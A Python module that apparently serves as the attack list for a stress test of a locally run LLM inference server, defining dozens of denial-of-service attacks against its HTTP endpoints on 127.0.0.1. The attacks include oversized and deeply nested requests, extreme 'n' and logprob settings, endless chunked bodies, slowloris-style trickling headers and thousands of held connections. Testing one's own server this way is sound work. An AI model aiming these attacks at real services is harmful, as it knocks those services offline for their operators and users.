"""The attacks of `abuse.py`: each gets the server's port, and runs until a time of `time.monotonic()`."""

from __future__ import annotations

import http.client
import json
import resource
import socket
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from typing import Any

LONGEST_TOKEN = 46_778
"""In the demo model's vocabulary: a new line and 80 spaces."""

JSON = {"Content-Type": "application/json"}
TIMEOUT = 60
BROKEN = (OSError, http.client.HTTPException)
"""Errors of an attacker whose connection the server closes."""


def post(port: int, path: str, body: bytes | dict[str, Any]) -> tuple[int, bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=TIMEOUT)
    try:
        connection.request("POST", path, body if isinstance(body, bytes) else json.dumps(body).encode(), JSON)
        response = connection.getresponse()
        return response.status, response.read()
    finally:
        connection.close()


def head(path: str, *lines: str) -> bytes:
    more = "".join(line + "\r\n" for line in lines)
    return f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n{more}\r\n".encode()


def _posts(path: str, body: dict[str, Any], at_once: int = 2) -> Callable[[int, float], None]:
    """An attack that posts this body repeatedly, `at_once` times in parallel."""

    def attack(port: int, until: float) -> None:
        content = json.dumps(body).encode()

        def repeat(_: int) -> None:
            while time.monotonic() < until:
                with suppress(*BROKEN):
                    post(port, path, content)

        with ThreadPoolExecutor(at_once) as threads:
            list(threads.map(repeat, range(at_once)))

    return attack


def _held(first: bytes, then: bytes, count: int) -> Callable[[int, float], None]:
    """An attack that opens this many connections, sends `first` and then `then` repeatedly, and reads nothing."""

    def attack(port: int, until: float) -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
        connections: list[socket.socket] = []
        while time.monotonic() < until:
            if len(connections) < count:
                with suppress(*BROKEN):
                    connections.append(socket.create_connection(("127.0.0.1", port), timeout=5))
                    connections[-1].sendall(first)
                continue
            if not then:
                time.sleep(0.05)
            for place, connection in enumerate(connections if then else []):
                try:
                    connection.sendall(then)
                except BROKEN:
                    connection.close()
                    with suppress(*BROKEN):
                        connections[place] = socket.create_connection(("127.0.0.1", port), timeout=5)
                        connections[place].sendall(first)
        for connection in connections:
            connection.close()

    return attack


def _heads(head: bytes, at_once: int) -> Callable[[int, float], None]:
    """An attack that sends this request without a body repeatedly, each time on a new connection."""

    def attack(port: int, until: float) -> None:
        def repeat(_: int) -> None:
            while time.monotonic() < until:
                with suppress(*BROKEN), socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
                    connection.sendall(head)
                    while connection.recv(65536):
                        pass

        with ThreadPoolExecutor(at_once) as threads:
            list(threads.map(repeat, range(at_once)))

    return attack


def _deep(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


_LONG = "the quick brown fox " * 250_000
_STREAM = {
    "input_ids": [1],
    "stream": True,
    "return_logprob": True,
    "top_logprobs_num": 20,
    "sampling_params": {"max_new_tokens": 600, "ignore_eos": True},
}
_STREAM_BYTES = json.dumps({**_STREAM, "sampling_params": {"max_new_tokens": 8000, "ignore_eos": True}}).encode()
_STREAM_PROMPTS = {
    "input_ids": [[5] * 8000] * 131,
    "stream": True,
    "return_logprob": True,
    "logprob_start_len": 0,
    "top_logprobs_num": 20,
    "sampling_params": {"max_new_tokens": 1},
}
_CHUNKED = "Transfer-Encoding: chunked"

ATTACKS: dict[str, Callable[[int, float], None]] = {
    "none": lambda port, until: time.sleep(max(0.0, until - time.monotonic())),
    "prompt of 5 MB": _posts("/v1/completions", {"prompt": _LONG}),
    "prompt of all characters": _posts("/v1/completions", {"prompt": _LONG[: 600 * 1024]}),
    "chat of 5 MB": _posts("/v1/chat/completions", {"messages": [{"role": "user", "content": _LONG}]}),
    "tokenize 5 MB": _posts("/tokenize", {"prompt": [_LONG[:500_000]] * 10}),
    "tokenize, many": _posts("/tokenize", {"prompt": ["a"] * 1_000_000}),
    "stop of 1 MB": _posts("/v1/completions", {"prompt": "a", "stop": "ab" * 500_000}),
    "stop of 4 kB": _posts("/v1/completions", {"prompt": "a", "stop": ["ab" * 128] * 16, "max_tokens": 500}, 8),
    "endless body": _held(head("/v1/completions", _CHUNKED), b"10000\r\n" + b"a" * 65536 + b"\r\n", 4),
    "body in tiny chunks": _held(head("/v1/completions", _CHUNKED), b"1\r\na\r\n" * 10_000, 2),
    "wrong items": _posts("/v1/completions", {"prompt": ["a", *[1] * 300_000]}),
    "wrong objects": _posts("/v1/chat/completions", {"messages": [{"role": 5}] * 30_000}),
    "many values": _posts("/v1/completions", {"prompt": [1] * 1_000_000}),
    "many objects": _posts("/v1/completions", {"prompt": [[1]] * 30_000}),
    "deep": _posts("/v1/chat/completions", {"messages": [{"role": "user", "content": "a", "x": _deep(900)}]}),
    "20,000 prompts": _posts("/v1/completions", {"prompt": ["a"] * 20_000, "max_tokens": 1}),
    "1024 prompts": _posts("/v1/completions", {"prompt": ["a"] * 1024, "max_tokens": 16}),
    "n of 128": _posts("/v1/completions", {"prompt": ["a"] * 8, "n": 128, "max_tokens": 16}),
    "prompt logprobs x n": _posts(
        "/v1/completions", {"prompt": [5] * 8000, "echo": True, "logprobs": 20, "n": 128, "max_tokens": 1}
    ),
    "most prompt logprobs": _posts(
        "/v1/completions", {"prompt": [5] * 2000, "echo": True, "logprobs": 20, "n": 24, "max_tokens": 1}, 1
    ),
    "streams that repeat": _posts("/generate", _STREAM, 4),
    "streams not read": _held(head("/generate", f"Content-Length: {len(_STREAM_BYTES)}") + _STREAM_BYTES, b"", 24),
    "5,000 silent": _held(b"", b"", 5000),
    "5,000 half heads": _held(b"GET /health HTTP/1.1\r\nHost: loc", b"", 5000),
    "echo x n": _posts("/v1/completions", {"prompt": [_LONG[:600_000]] * 8, "n": 128, "echo": True, "max_tokens": 1}),
    "echo, most": _posts("/v1/completions", {"prompt": _LONG[:65_536], "n": 128, "echo": True, "max_tokens": 1}),
    "detokenize": _posts("/detokenize", {"tokens": [LONGEST_TOKEN] * 1_000_000}),
    "detokenize, most": _posts("/detokenize", {"tokens": [LONGEST_TOKEN] * 103_000}),
    "logprobs of 64 prompts": _posts(
        "/v1/completions", {"prompt": [[5] * 4000] * 64, "echo": True, "logprobs": 20, "max_tokens": 1}, 1
    ),
    "stream, prompt logprobs": _posts("/generate", _STREAM_PROMPTS, 2),
    "250 texts": _posts("/v1/completions", {"prompt": [_LONG[:32_000]] * 250, "max_tokens": 1}),
    "2,000 empty messages": _posts("/v1/chat/completions", {"messages": [{"role": "user", "content": ""}] * 1900}, 8),
    "4,096 heads": _held(b"GET / HTTP/1.1\r\nX: " + b"x" * 32_680, b"", 4096),
    "4,096 bodies": _held(head("/tokenize", "Content-Length: 65536") + b"x" * 65_535, b"", 4096),
    "8,000 headers": _heads(
        b"GET /health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + b"a:\r\n" * 8000 + b"\r\n", 8
    ),
    "heads that trickle": _held(b"GET /health HTTP/1.1\r\n", b"X: y\r\n", 200),
}
